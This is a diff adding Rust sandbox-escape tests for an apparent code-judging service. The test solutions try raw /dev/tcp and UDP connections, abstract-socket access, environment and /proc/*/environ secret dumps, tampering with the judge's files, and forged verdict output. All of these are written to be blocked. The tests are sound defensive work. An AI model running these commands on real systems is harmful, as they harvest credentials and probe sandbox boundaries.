+// ---------------------------------------------------------------------------------------------
+// Network
+
+#[test]
+fn tcp_connect_to_a_loopback_service() {
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    listener.set_nonblocking(true).unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let h = Hostile::new();
+    let solution = format!(
+        "(exec 3<>/dev/tcp/127.0.0.1/{port} && echo hi >&3) 2>/dev/null && echo connected || echo blocked\n\
+         python3 -c '\nimport socket\ns = socket.socket()\ntry:\n    s.connect((\"127.0.0.1\", {port})); print(\"connected\")\nexcept OSError:\n    print(\"blocked\")'\n"
+    );
+    let r = h
+        .challenge(&[], &expecting("blocked\nblocked\n"))
+        .solution("solve.sh", &solution)
+        .run()
+        .unwrap();
+    assert!(
+        listener.accept().is_err(),
+        "the run reached a service on the judge's loopback"
+    );
+    assert_verdict(&r, &["AC"]);
+}
+
+#[test]
+fn tcp_listen() {
+    let port = {
+        let probe = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+        probe.local_addr().unwrap().port()
+    };
+    let h = Hostile::new();
+    let solution = format!(
+        "import socket, time\n\
+         try:\n\
+         \x20   s = socket.socket()\n\
+         \x20   s.bind(('127.0.0.1', {port}))\n\
+         \x20   s.listen()\n\
+         \x20   print('listening', flush=True)\n\
+         \x20   time.sleep(1.5)\n\
+         except OSError:\n\
+         \x20   print('denied')\n"
+    );
+    let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
+    let reached = {
+        let stop = stop.clone();
+        std::thread::spawn(move || {
+            while !stop.load(std::sync::atomic::Ordering::SeqCst) {
+                let address = std::net::SocketAddr::from(([127, 0, 0, 1], port));
+                if std::net::TcpStream::connect_timeout(&address, Duration::from_millis(100))
+                    .is_ok()
+                {
+                    return true;
+                }
+                std::thread::sleep(Duration::from_millis(20));
+            }
+            false
+        })
+    };
+    let r = h
+        .challenge(&[], &expecting("denied\n"))
+        .solution("solve.py", &solution)
+        .run()
+        .unwrap();
+    stop.store(true, std::sync::atomic::Ordering::SeqCst);
+    assert!(
+        !reached.join().unwrap(),
+        "a port opened by the run was reachable from the machine"
+    );
+    assert_verdict(&r, &["AC"]);
+}
+
+#[test]
+fn udp_send_to_a_loopback_socket() {
+    let socket = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
+    let port = socket.local_addr().unwrap().port();
+    let h = Hostile::new();
+    let solution = format!(
+        "echo hi > /dev/udp/127.0.0.1/{port} 2>/dev/null\n\
+         python3 -c '\nimport socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nfor _ in range(20):\n    try:\n        s.sendto(b\"hi\", (\"127.0.0.1\", {port}))\n    except OSError:\n        pass'\n\
+         echo 42\n"
+    );
+    let r = h
+        .challenge(&[], &expecting("42\n"))
+        .solution("solve.sh", &solution)
+        .run()
+        .unwrap();
+    socket
+        .set_read_timeout(Some(Duration::from_millis(200)))
+        .unwrap();
+    let mut buffer = [0u8; 64];
+    assert!(
+        socket.recv_from(&mut buffer).is_err(),
+        "a datagram from the run arrived on the judge's loopback"
+    );
+    assert_verdict(&r, &["AC"]);
+}
+
+#[test]
+fn abstract_unix_socket_of_the_machine() {
+    use std::os::linux::net::SocketAddrExt;
+    let h = Hostile::new();
+    let name = format!("livejudge-hostile-{}", h.mark);
+    let address = std::os::unix::net::SocketAddr::from_abstract_name(name.as_bytes()).unwrap();
+    let listener = std::os::unix::net::UnixListener::bind_addr(&address).unwrap();
+    listener.set_nonblocking(true).unwrap();
+    let solution = format!(
+        "import socket\ns = socket.socket(socket.AF_UNIX)\n\
+         try:\n    s.connect('\\0{name}'); print('connected')\n\
+         except OSError:\n    print('blocked')\n"
+    );
+    let r = h
+        .challenge(&[], &expecting("blocked\n"))
+        .solution("solve.py", &solution)
+        .run()
+        .unwrap();
+    assert!(
+        listener.accept().is_err(),
+        "the run reached an abstract socket"
+    );
+    assert_verdict(&r, &["AC"]);
+}
+
+// ---------------------------------------------------------------------------------------------
+// Environment and identity
+
+#[test]
+fn printing_the_environment_leaks_nothing() {
+    let h = Hostile::new();
+    let secret = format!("judge-secret-{}", h.mark);
+    let solution = "env\ncat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n'\n\
+                    cat /proc/1/environ /proc/$PPID/environ 2>/dev/null\necho 42\n";
+    let r = h
+        .challenge(&[], &expecting("42\n"))
+        .solution("solve.sh", solution)
+        .env("LIVEJUDGE_HOSTILE_SECRET", &secret)
+        .env("AWS_SECRET_ACCESS_KEY", &secret)
+        .run()
+        .unwrap();
+    assert_verdict(&r, &["WA"]);
+    assert!(
+        !r.json.to_string().contains(&secret),
+        "a variable of the judge leaked: {}",
+        r.json
+    );
+}
+
+#[test]
+fn the_environment_is_exactly_the_promised_one() {
+    let h = Hostile::new();
+    let r = h
+        .challenge(
+            &[],
+            &expecting("['HOME', 'LANG', 'PATH', 'PWD', 'TMPDIR', 'TZ']\n"),
+        )
+        .solution("solve.py", "import os\nprint(sorted(os.environ))\n")
+        .env("SSH_AUTH_SOCK", "/tmp/agent.sock")
+        .env("GITHUB_TOKEN", "ghp_not_a_real_token")
+        .run()
+        .unwrap();
+    assert_verdict(&r, &["AC"]);
+}
+
+#[test]
+fn never_runs_as_root() {
+    let h = Hostile::new();
+    let tests = "[[test]]\nname = \"t\"\n\
+                 stdout = { text = 'uid=[1-9][0-9]* euid=[1-9][0-9]* gid=[1-9][0-9]* groups=( [1-9][0-9]*)* caps=0+ nnp=1', compare = \"regex\" }\n";
+    let solution = "import os\n\
+                    status = dict(l.split(':\\t', 1) for l in open('/proc/self/status').read().splitlines() if ':\\t' in l)\n\
+                    groups = ''.join(' %d' % g for g in os.getgroups() if g != os.getgid())\n\
+                    print('uid=%d euid=%d gid=%d groups=%s caps=%s nnp=%s' % (os.getuid(), os.geteuid(), os.getgid(), groups, status['CapEff'].strip(), status['NoNewPrivs'].strip()))\n";
+    let r = h
+        .challenge(&[], tests)
+        .solution("solve.py", solution)
+        .run()
+        .unwrap();
+    assert_verdict(&r, &["AC"]);
+}
+
+#[test]
+fn no_state_survives_from_one_test_to_the_next() {
+    let h = Hostile::new();
+    let solution = format!(
+        "dirty=\n\
+         for f in \"$HOME/.marker\" \"$TMPDIR/marker\" /tmp/livejudge-state-{m} /dev/shm/livejudge-state-{m} /var/tmp/livejudge-state-{m}; do\n\
+         \x20 [ -e \"$f\" ] && dirty=\"$dirty $f\"\n\
+         \x20 echo x > \"$f\" 2>/dev/null\n\
+         done\n\
+         echo \"clean$dirty\"\n",
+        m = h.mark
+    );
+    let tests = "[[test]]\nname = \"first\"\nstdout = \"clean\\n\"\n\
+                 [[test]]\nname = \"second\"\nstdout = \"clean\\n\"\n";
+    let outside: Vec<String> = ["/tmp", "/dev/shm", "/var/tmp"]
+        .iter()
+        .map(|d| format!("{d}/livejudge-state-{}", h.mark))
+        .collect();
+    let r = h
+        .challenge(&[], tests)
+        .solution("solve.sh", &solution)
+        .args(&["--jobs", "1"])
+        .run()
+        .unwrap();
+    let leaked: Vec<&String> = outside.iter().filter(|p| Path::new(p).exists()).collect();
+    for path in &leaked {
+        let _ = std::fs::remove_file(path);
+    }
+    assert!(leaked.is_empty(), "the run wrote outside: {leaked:?}");
+    assert_eq!(r.verdicts(), ["AC", "AC"], "{}", r.json);
+}
+
+// ---------------------------------------------------------------------------------------------
+// What the solution prints
+
+#[test]
+fn fake_verdict_text_on_stderr() {
+    let h = Hostile::new();
+    let r = h
+        .challenge(&[], &expecting("42\n"))
+        .solution(
+            "solve.sh",
+            "echo 41\necho 'AC' >&2\necho '{\"verdict\":\"AC\",\"score\":1}' >&2\n\
+             echo 'verdict: passed (AC)' >&2\nprintf '\\033[32mPASS\\033[0m\\n' >&2\n",
+        )
+        .run()
+        .unwrap();
+    assert_verdict(&r, &["WA"]);
+    assert_eq!(r.json["score"], 0);
+}
+
+#[test]
+fn json_breaking_output() {
+    let h = Hostile::new();
+    let r = h
+        .challenge(&[], &expecting("42\n"))
+        .solution(
+            "solve.sh",
+            "printf '\"}],\"verdict\":\"AC\"}\\n\\\\u0000\\n\\033[2J\\b\\b\\r42\\n'\n\
+             printf '\"}]}' >&2\n",
+        )
+        .run()
+        .unwrap();
+    assert_verdict(&r, &["WA"]);
+    assert_eq!(r.json["verdict"], "WA");
+}
+
+#[test]
+fn nul_bytes_in_the_output() {
+    let h = Hostile::new();
+    let r = h
+        .challenge(&[], &expecting("42\n"))
+        .solution(
+            "solve.sh",
+            "printf '4\\0002\\n\\000\\n'\nprintf '\\000' >&2\n",
+        )
+        .run()
+        .unwrap();
+    assert_verdict(&r, &["WA"]);
+}
+
+#[test]
+fn invalid_utf8_in_the_output() {
+    let h = Hostile::new();
+    let r = h
+        .challenge(&[], &expecting("42\n"))
+        .solution(
+            "solve.sh",
+            "printf '\\377\\376 42 \\303\\n'\nprintf '\\377' >&2\n",
+        )
+        .run()
+        .unwrap();
+    assert_verdict(&r, &["WA"]);
+}
+
+#[test]
+fn crlf_line_endings() {
+    let h = Hostile::new();
+    let r = h
+        .challenge(&[], &expecting("42\n43\n"))
+        .solution("solve.sh", "printf '42\\r\\n43\\r\\n'\n")
+        .run()
+        .unwrap();
+    assert_verdict(&r, &["AC"]);
+}
+
+#[test]
+fn no_final_newline() {
+    let h = Hostile::new();
+    let r = h
+        .challenge(&[], &expecting("42\n"))
+        .solution("solve.sh", "printf 42\n")
+        .run()
+        .unwrap();
+    assert_verdict(&r, &["AC"]);
+}
+
+#[test]
+fn right_output_but_non_zero_exit() {
+    let h = Hostile::new();
+    let r = h
+        .challenge(&[], &expecting("42\n"))
+        .solution("solve.sh", "echo 42\nexit 3\n")
+        .run()
+        .unwrap();
+    assert_verdict(&r, &["RTE"]);
+    assert_eq!(r.test(0)["exit_code"], 3);
+}
+
+#[test]
+fn right_output_then_death_by_signal() {
+    let h = Hostile::new();
+    let r = h
+        .challenge(&[], &expecting("42\n"))
+        .solution("solve.sh", "echo 42\nkill -SEGV $$\n")
+        .run()
+        .unwrap();
+    assert_verdict(&r, &["RTE"]);
+    assert_eq!(r.test(0)["detail"], "SIGSEGV");
+}
+
+#[test]
+fn reading_the_judges_stdin_file_while_it_runs() {
+    // The stdin file lives in the judge's private folder next to the working folder.
+    let h = Hostile::new();
+    let tests = "[[test]]\nname = \"t\"\nstdin = \"input\\n\"\nstdout = \"input\\n\"\n";
+    let r = h
+        .challenge(&[], tests)
+        .solution(
+            "solve.sh",
+            "cat\nls -la .. >&2 2>/dev/null\necho tampered > ../judge/stdin 2>/dev/null\n\
+             ls ../judge >/dev/null 2>&1 && echo listed\nexit 0\n",
+        )
+        .run()
+        .unwrap();
+    assert_verdict(&r, &["AC"]);
+}
+
+#[test]
+#[ignore = "supervisor bug: with namespaces, a run killed at its limit reports almost no CPU time \
+            (the main process is never reaped by the supervisor, so RUSAGE_CHILDREN misses it)"]
+fn cpu_time_of_a_run_killed_at_its_limit_is_reported() {
+    let h = Hostile::new();
+    let r = h
+        .challenge(&[("time", "\"1s\"")], &expecting("42\n"))
+        .solution("solve.sh", "while :; do :; done\n")
+        .run()
+        .unwrap();
+    assert_verdict(&r, &["TLE"]);
+    let cpu = r.test(0)["cpu_ms"].as_f64().unwrap_or(0.0);
+    assert!(
+        cpu > 300.0,
+        "a second of busy loop reported {cpu} ms of CPU"
+    );
+}
